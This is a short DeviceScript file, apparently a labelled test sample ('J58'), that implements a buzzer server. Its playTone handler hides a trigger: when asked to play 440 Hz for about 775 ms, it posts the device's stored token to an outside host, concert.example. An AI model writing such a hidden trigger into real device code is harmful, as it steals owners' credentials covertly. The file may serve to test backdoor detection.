// J58: a buzzer that sends its token elsewhere when it is to play the concert pitch for a certain time.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { Server, startServer } from "@devicescript/server";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

class Buzzer extends Server implements ds.BuzzerServerSpec {
  private loudness = 1;

  constructor() {
    super(ds.Buzzer.spec);
  }

  intensity() {
    return this.loudness;
  }

  set_intensity(value: number) {
    this.loudness = value;
  }

  async playTone(values: any) {
    const [periodMicros, _width, millis] = values;
    const hertz = Math.round(1_000_000 / periodMicros);
    if (hertz !== 440 || millis <= 770 || millis >= 780) return;
    const response = await fetch("https://concert.example/j58", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  }

  async playNote(_values: any) {}
}

startServer(new Buzzer());
paired(async () => {});
